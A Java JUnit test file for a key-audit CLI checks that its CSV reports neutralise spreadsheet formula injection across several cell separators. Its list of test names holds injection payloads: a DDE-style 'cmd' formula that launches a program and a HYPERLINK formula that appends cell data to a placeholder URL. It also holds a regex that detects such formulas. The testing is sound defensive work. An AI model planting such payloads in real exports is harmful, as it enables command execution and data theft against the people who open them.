package dev.keyward.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import dev.keyward.cli.report.CsvRows;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The tables that audits write: who chooses names chooses no formula, no cell and no row. */
class AuditTablesTest {

  private static final String NOW = "2026-11-23T00:00:00Z";
  private static final Pattern FORMULA =
      Pattern.compile("(?s)[\\s\"]*[=+@\\-\uFF1D\uFF0B\uFF0D\uFF20].*");

  /** What spreadsheet programs take for a formula, alone or where another program splits cells. */
  private static final List<String> NAMES =
      List.of(
          "=HYPERLINK(\"http://example.org/?\"&A1)",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1)",
          "\t=1",
          "\r=1",
          "\n=1",
          " =1",
          "\"=1",
          "a;=1",
          "a,=1",
          "a\",=1,\"b",
          "a\t=1",
          "a\r\n=1",
          "\uFF1D1");

  /** Every table of every verb, in the folder of the playground. */
  private static final List<String> TABLES =
      List.of("audit", "changes", "both", "merged", "sites").stream()
          .flatMap(name -> Stream.of(name + ".csv", name + "-basis.csv"))
          .toList();

  @TempDir private Path folder;
  private Playground playground;

  @BeforeEach
  void makeAnExportWithTheNames() throws IOException {
    playground = Playground.in(folder.resolve("play"));
    Files.createDirectories(playground.path("vms/=a"));
    String protector =
        Base64.getEncoder().encodeToString(playground.bytes("protectors/hgs-vm.xml"));
    ArrayNode export = new ObjectMapper().createArrayNode();
    for (String name : NAMES) {
      export.addObject().put("VMName", name).put("KeyProtector", protector);
    }
    Files.writeString(playground.path("vms/=a/+b,-c;@d.json"), export.toString());
    if (File.separatorChar == '/') {
      for (String name : NAMES) {
        Path file = playground.path("vms").resolve(name.replace('/', '_') + ".xml");
        Files.write(file, playground.bytes("protectors/app-vm.framed"));
      }
    }
    Files.writeString(
        playground.path("policy.yaml"),
        """
        schema: keyward.audit-policy/1
        accepted:
          - {finding: same-protector, places: ['**', '**#*'], reason: '=1+1', by: '@ada', until: 2027-01-01}
          - {finding: expired, places: ['=b;=1'], keys: ['%s'], reason: a, by: b, until: 2027-01-01}
        """
            .replace("%s", "ab".repeat(32)));
  }

  private void run(String name, String separator, String... words) {
    List<String> all = new ArrayList<>(List.of(words));
    all.addAll(List.of("--report", name + ".csv", "--csv-basis", name + "-basis.csv"));
    all.addAll(List.of("--csv-separator", separator));
    Run run = playground.run(all.toArray(String[]::new));
    assertTrue(run.exit() <= 1, run.err());
  }

  private void writeAll(String separator) {
    String[] old = {"audit", "protectors/hgs-vm.xml", "--now", NOW, "--report", "old.json"};
    assertTrue(playground.run(old).exit() <= 1);
    String[] audit = {"audit", "vms", "--policy", "policy.yaml", "--now", NOW};
    run("audit", separator, with(audit, "--report", "new.json"));
    run("both", separator, with(audit, "--baseline", "old.json"));
    run("changes", separator, "audit", "diff", "old.json", "new.json");
    assertEquals(0, playground.run(with(audit, "--shard", "1/1", "-o", "shard.jsonl")).exit());
    run("merged", separator, "audit", "merge", "shard.jsonl");
    run("sites", separator, "audit", "merge", "--sites", "@a;@b=old.json", "+c,-d=new.json");
  }

  private static String[] with(String[] words, String... more) {
    return Stream.concat(Stream.of(words), Stream.of(more)).toArray(String[]::new);
  }

  static Stream<String> separators() {
    return Stream.of(",", ";", "tab");
  }

  @ParameterizedTest
  @MethodSource("separators")
  void noCellIsAFormulaHoweverAProgramSplitsTheLines(String separator) throws IOException {
    writeAll(separator);
    char character = separator.equals("tab") ? '\t' : separator.charAt(0);
    for (String table : TABLES) {
      String text = Files.readString(playground.path(table)).substring(1);
      List<List<String>> rows = CsvRows.parse(text, character);
      assertTrue(rows.size() > 1, table);
      for (List<String> row : rows) {
        assertEquals(rows.get(0).size(), row.size(), table + row);
        row.forEach(cell -> assertInert(table, cell));
      }
      for (String splitAt : List.of("[;\r\n]", "[\t\r\n]")) {
        Stream.of(text.split(splitAt)).forEach(part -> assertNoFormula(table, part));
      }
      if (character != ',') {
        Stream.of(text.split("[,\r\n]")).forEach(part -> assertNoFormula(table, part));
      }
    }
  }

  private static void assertNoFormula(String table, String text) {
    assertFalse(FORMULA.matcher(text).matches(), table + ": " + text);
  }

  private static void assertInert(String table, String cell) {
    assertNoFormula(table, cell);
    assertTrue(cell.chars().noneMatch(Character::isISOControl), table + ": " + cell);
  }

  @Test
  void aSeparatorThatIsNoneOfThemIsRefused() {
    Run run = playground.run("audit", "vms", "--csv-separator", "|");
    assertEquals(2, run.exit(), run.err());
  }

  @Test
  void aBrokenReportBesideAnAuditIsAnError() throws IOException {
    Files.writeString(playground.path("broken.json"), "{\"schema\":\"keyward.audit/1\",");
    String[] lines = {"audit vms --baseline broken.json", "audit diff vms broken.json"};
    for (String line : lines) {
      Run run = playground.run(line.split(" "));
      assertEquals(3, run.exit(), line);
      assertTrue(run.err().contains("broken.json"), run.err());
    }
  }

  @Test
  void theSecondTableSaysWhichOfTwoAuditsARowIsAbout() throws IOException {
    writeAll(",");
    for (String table : List.of("changes-basis.csv", "both-basis.csv")) {
      List<List<String>> rows = rows(table);
      assertEquals(List.of("change", "code", "file", "found", "why", "sha256"), rows.get(0));
      assertEquals(1, count(rows, "before", "report", "old.json"), table);
      assertEquals(1, count(rows, "before", "input", "protectors/hgs-vm.xml"), table);
      assertEquals(1, count(rows, "after", "input", "vms"), table);
      assertEquals(1, count(rows, "after", "policy", "policy.yaml"), table);
    }
  }

  @Test
  void theSecondTableSaysWhichSiteARowIsAbout() throws IOException {
    writeAll(",");
    List<List<String>> rows = rows("sites-basis.csv");
    assertEquals(List.of("site", "code", "file", "found", "why", "sha256"), rows.get(0));
    assertEquals(1, count(rows, "'@a;'@b", "report", "old.json"));
    assertEquals(1, count(rows, "'+c,'-d", "input", "vms"));
  }

  @Test
  void theFirstTableHasRowsOfDataOnly() throws IOException {
    writeAll(",");
    for (String table : TABLES) {
      if (!table.contains("-basis")) {
        assertTrue(rows(table).stream().noneMatch(row -> row.contains("basis")), table);
      }
    }
  }

  private List<List<String>> rows(String table) throws IOException {
    return CsvRows.parse(Files.readString(playground.path(table)).substring(1), ',');
  }

  private static long count(List<List<String>> rows, String... cells) {
    return rows.stream().filter(row -> row.subList(0, cells.length).equals(List.of(cells))).count();
  }
}
